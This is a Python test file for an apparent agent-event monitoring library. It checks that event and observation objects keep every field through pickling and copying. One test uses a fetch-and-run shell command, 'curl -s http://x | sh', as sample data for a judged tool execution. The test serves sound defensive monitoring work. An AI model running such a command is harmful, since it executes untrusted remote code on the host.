"""The canonical event crosses process boundaries (ingest workers) and copies whole."""

import copy
import pickle
from dataclasses import fields

from anysentry.events.model import EVENT_FIELDS, AgentEvent, Observation, event_values


def distinct_event() -> AgentEvent:
    """Every field holds a value of its type that no other field holds: a mixed-up order shows."""
    values: dict = {}
    for n, f in enumerate(fields(AgentEvent)):
        if f.name in ("at", "decisionUpdatedAt", "tokenCount"):
            values[f.name] = 1_700_000_000_000 + n
        elif f.name in ("riskScore", "latencyMs"):
            values[f.name] = n + 0.5
        elif f.name in ("attributes", "process", "attribution", "judgment"):
            values[f.name] = {"field": f.name, "n": n, "nested": [n, {"k": f.name}]}
        else:
            values[f.name] = f"{f.name}-value-{n}"
    return AgentEvent(**values)


def test_an_event_comes_back_from_pickle_equal_field_for_field():
    event = distinct_event()
    back = pickle.loads(pickle.dumps(event, protocol=pickle.HIGHEST_PROTOCOL))
    assert back == event
    assert [getattr(back, name) for name in EVENT_FIELDS] == [getattr(event, name) for name in EVENT_FIELDS]


def test_an_observation_keeps_its_judge_input_across_pickle():
    obs = Observation(distinct_event(), "ToolExec", "curl -s http://x | sh", evidence_incomplete=True,
                      classification="confirmed_agent")
    back = pickle.loads(pickle.dumps(obs, protocol=pickle.HIGHEST_PROTOCOL))
    assert back == obs
    assert (back.judge_kind, back.judge_subject, back.evidence_incomplete, back.classification) == (
        "ToolExec", "curl -s http://x | sh", True, "confirmed_agent")


def test_copies_are_shallow_or_deep_as_asked():
    event = distinct_event()
    shallow, deep = copy.copy(event), copy.deepcopy(event)
    assert shallow == event and deep == event
    assert shallow.attributes is event.attributes
    deep.attributes["nested"][1]["k"] = "changed"
    assert event.attributes["nested"][1]["k"] == "attributes"


def test_event_values_is_the_row_in_field_order():
    event = distinct_event()
    assert event_values(event) == tuple(getattr(event, name) for name in EVENT_FIELDS)
